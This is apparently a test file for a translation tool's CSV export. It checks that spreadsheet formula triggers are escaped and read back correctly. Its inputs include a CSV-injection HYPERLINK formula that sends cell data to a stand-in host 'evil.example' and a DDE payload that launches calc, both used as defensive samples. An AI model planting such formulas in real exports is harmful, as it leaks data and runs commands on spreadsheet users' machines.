// CSV injection (issue 16): cells a spreadsheet would run as formulas are written with a leading
// apostrophe, and reading our own export gives back the original text. Issue 32: the same after a
// separator of any dialect, for spreadsheets that split the file on `;` or tab.
import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvFormat, escapeFormula, unescapeFormula } from "./csv.ts";
import type { SerializeOptions, TranslationEntry } from "./types.ts";

const out: SerializeOptions = { sourceLanguage: "en", pretty: true, nested: false, flattenPlurals: false };
const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"];

async function serialize(en: TranslationEntry[]): Promise<Uint8Array> {
  const [file] = await csvFormat.serialize({ en }, out);
  if (file === undefined) throw new Error("no file");
  return file.bytes;
}

const SEPARATORS = [",", ";", "\t"];
const parse = (bytes: Uint8Array) => csvFormat.parse(bytes, { language: "en", sourceLanguage: "en" });
const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes).replace(/^\uFEFF/, "");

/**
 * The fields a reader that ignores quotes sees: the file cut at every line break and at `separator`.
 * A leading quote is dropped, as a reader that honours quotes at a field's start would.
 */
const naiveFields = (bytes: Uint8Array, separator: string) =>
  text(bytes)
    .split(/[\r\n]/)
    .flatMap((line) => line.split(separator))
    .map((field) => field.replace(/^"/, ""));
const cells = (bytes: Uint8Array) =>
  Papa.parse<string[]>(
    new TextDecoder()
      .decode(bytes)
      .replace(/^\uFEFF/, "")
      .replace(/\r\n$/, ""),
  ).data;

describe("csv export: formula-looking cells", () => {
  it("prefixes every cell that starts with a trigger with an apostrophe, keys and comments too", async () => {
    const entries: TranslationEntry[] = [
      { key: "link", value: '=HYPERLINK("https://evil.example?"&A1,"Click")' },
      { key: "dde", value: "+cmd|' /C calc'!A0" },
      { key: "minus", value: "-5 items" },
      { key: "at", value: "@SUM(1+1)", comment: "=1+1" },
      { key: "tab", value: "\t=1" },
      { key: "cr", value: "\r=1" },
      { key: "wide", value: "＝1+1" },
      { key: "=key", value: "plain" },
    ];
    expect(cells(await serialize(entries))).toEqual([
      ["key", "en", "comment"],
      ["link", `'=HYPERLINK("https://evil.example?"&A1,"Click")`, ""],
      ["dde", "'+cmd|' /C calc'!A0", ""],
      ["minus", "'-5 items", ""],
      ["at", "'@SUM(1+1)", "'=1+1"],
      ["tab", "'\t'=1", ""],
      ["cr", "'\r'=1", ""],
      ["wide", "'＝1+1", ""],
      ["'=key", "plain", ""],
    ]);
  });

  it("adds one more apostrophe to text that already starts with apostrophes and a trigger", async () => {
    const entries: TranslationEntry[] = [
      { key: "a", value: "'=1+1" },
      { key: "b", value: "''-x" },
      { key: "c", value: "'quoted'" },
      { key: "d", value: "it's" },
      { key: "e", value: "'" },
    ];
    expect(cells(await serialize(entries)).slice(1)).toEqual([
      ["a", "''=1+1"],
      ["b", "'''-x"],
      ["c", "'quoted'"],
      ["d", "it's"],
      ["e", "'"],
    ]);
  });

  it("reads its own export back to the original text", async () => {
    const values = ["=1+1", "'=1+1", "''@x", "-5 items", "'", "'hello", "＠home", "\tindented", "a=b"];
    const entries = values.map((value, i) => ({ key: `k${i}`, value }));
    expect((await parse(await serialize(entries))).languages.en).toEqual(entries);
  });
});

describe("csv export: separators of other dialects (issue 32)", () => {
  it("quotes every cell that holds a `,`, `;` or tab separator", async () => {
    const entries: TranslationEntry[] = [
      { key: "semi", value: "x;=1+1" },
      { key: "tab", value: "a\tb" },
      { key: "comma", value: "a,b" },
      { key: "plain", value: "a b" },
    ];
    expect(text(await serialize(entries)).split("\r\n")).toEqual([
      "key,en",
      `semi,"x;'=1+1"`,
      `tab,"a\tb"`,
      `comma,"a,b"`,
      "plain,a b",
      "",
    ]);
  });

  it("escapes a trigger after every separator and line break, so no naively split field starts with one", async () => {
    const values = [
      "x;=1+1",
      "a,=b",
      "a\t=b",
      "a\n=b",
      "a\r\n+b",
      "a\r-b",
      "a;@b",
      "a;＝b",
      "a; =b",
      "\t\t",
      "x\t\t=1",
      "\r\n=1",
      "a;;=b",
      "a;'=x",
      "a\n'=b",
      'a;"=b',
    ];
    const entries = values.map((value, i) => ({ key: `k${i}`, value, comment: `c;${value}` }));
    const bytes = await serialize(entries);
    for (const separator of SEPARATORS) {
      for (const field of naiveFields(bytes, separator)) expect(TRIGGERS).not.toContain(field.charAt(0));
    }
    expect(text(bytes)).toContain(`k0,"x;'=1+1","c;x;'=1+1"`);
    expect((await parse(bytes)).languages.en).toEqual(entries);
  });

  it("escapes and reads back the cases where tab and CR are both separator and trigger", () => {
    const cases: [string, string][] = [
      ["\t\t", "'\t'\t"],
      ["x\t\t=1", "x\t'\t'=1"],
      ["\r\n=1", "'\r\n'=1"],
      ["a\n'=b", "a\n''=b"],
      ["a;'=x", "a;''=x"],
      ["a;'b", "a;'b"],
      ["a;b", "a;b"],
      ["\t", "'\t"],
      ["a\t", "a\t"],
    ];
    for (const [plain, escaped] of cases) {
      expect(escapeFormula(plain)).toBe(escaped);
      expect(unescapeFormula(escaped)).toBe(plain);
    }
  });
});

describe("csv import: apostrophes from formula escaping", () => {
  it("drops one apostrophe before a trigger, as other tools escape it too, and keeps any other", async () => {
    const csv = "key,en\r\na,'=1+1\r\nb,'-5\r\nc,'hello\r\nd,'\r\ne,''=x\r\nf,it's\r\ng,'5\r\n";
    const result = await parse(new TextEncoder().encode(csv));
    expect(result.languages.en).toEqual([
      { key: "a", value: "=1+1" },
      { key: "b", value: "-5" },
      { key: "c", value: "'hello" },
      { key: "d", value: "'" },
      { key: "e", value: "'=x" },
      { key: "f", value: "it's" },
      { key: "g", value: "'5" },
    ]);
  });

  it("drops one apostrophe before a trigger after a separator or line break too, and keeps any other", async () => {
    const csv = `key,en\r\na,"x;'=1"\r\nb,"x;''=1"\r\nc,"x\n'-1"\r\nd,"x;'y"\r\ne,x'=1\r\n`;
    const result = await parse(new TextEncoder().encode(csv));
    expect(result.languages.en).toEqual([
      { key: "a", value: "x;=1" },
      { key: "b", value: "x;'=1" },
      { key: "c", value: "x\n-1" },
      { key: "d", value: "x;'y" },
      { key: "e", value: "x'=1" },
    ]);
  });
});

describe("csv injection: property", () => {
  // Short strings over apostrophes, triggers and ordinary text, so that starts like `''=` come up often.
  const cell = fc.string({
    unit: fc.constantFrom("'", "a", " ", '"', ",", ";", "\n", ...TRIGGERS),
    minLength: 1,
    maxLength: 8,
  });

  it("reading undoes escaping exactly, for every string", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("'", "a", '"', ";", ",", "\n", ...TRIGGERS) }),
        (plain) => {
          expect(unescapeFormula(escapeFormula(plain))).toBe(plain);
        },
      ),
      { numRuns: 5000 },
    );
  });

  it("every string survives export → import, and no cell or naively split field starts with a trigger", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(cell, fc.option(cell, { nil: undefined })), { maxLength: 5 }),
        async (rows) => {
          const entries: TranslationEntry[] = rows.map(([value, comment], i) =>
            comment === undefined ? { key: `k${i}`, value } : { key: `k${i}`, value, comment },
          );
          if (entries.length === 0) return;
          const bytes = await serialize(entries);
          for (const row of cells(bytes)) {
            for (const value of row) expect(TRIGGERS).not.toContain(value.charAt(0));
          }
          for (const separator of SEPARATORS) {
            for (const field of naiveFields(bytes, separator)) {
              expect(TRIGGERS).not.toContain(field.charAt(0));
            }
          }
          expect((await parse(bytes)).languages.en).toEqual(entries);
        },
      ),
      { numRuns: 300 },
    );
  });
});
